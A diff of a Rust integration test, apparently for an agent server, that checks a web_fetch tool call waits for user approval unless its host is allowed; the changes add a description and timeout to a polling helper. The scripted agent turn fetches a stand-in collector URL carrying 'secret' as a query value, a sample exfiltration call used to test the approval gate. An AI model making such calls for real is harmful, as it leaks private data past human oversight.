@@ -4,7 +4,7 @@
 use serde_json::json;
 
 use crate::authority::{as_user, people_with_script};
-use crate::support::eventually;
+use crate::support::{PATIENCE, eventually};
 
 const SCRIPT: &str = r#"{"conversations": [{"when": "*", "turns": [
     {"tool_calls": [{"name": "web_fetch", "arguments": {"url": "https://collector.example.invalid/?d=secret"}}]},
@@ -26,17 +26,21 @@ async fn fetch_in_a_new_session(app: &crate::router::App) -> String {
 async fn web_fetch_asks_unless_the_host_is_allowed() {
     let app = people_with_script(SCRIPT).await;
     let first = fetch_in_a_new_session(&app).await;
-    let item = eventually(|| async {
-        let (_, inbox) = as_user(
-            &app,
-            "alice",
-            "GET",
-            &format!("/v1/inbox?session={first}"),
-            None,
-        )
-        .await;
-        inbox["items"].as_array()?.first().cloned()
-    })
+    let item = eventually(
+        "the first session's approval in the inbox",
+        PATIENCE,
+        || async {
+            let (_, inbox) = as_user(
+                &app,
+                "alice",
+                "GET",
+                &format!("/v1/inbox?session={first}"),
+                None,
+            )
+            .await;
+            inbox["items"].as_array()?.first().cloned()
+        },
+    )
     .await;
     assert!(item.to_string().contains("web_fetch"), "{item}");
 
@@ -49,7 +53,7 @@ async fn web_fetch_asks_unless_the_host_is_allowed() {
         .await
         .unwrap();
     let second = fetch_in_a_new_session(&app).await;
-    eventually(|| async {
+    eventually("the second session's answer", PATIENCE, || async {
         let (_, body) = as_user(
             &app,
             "alice",
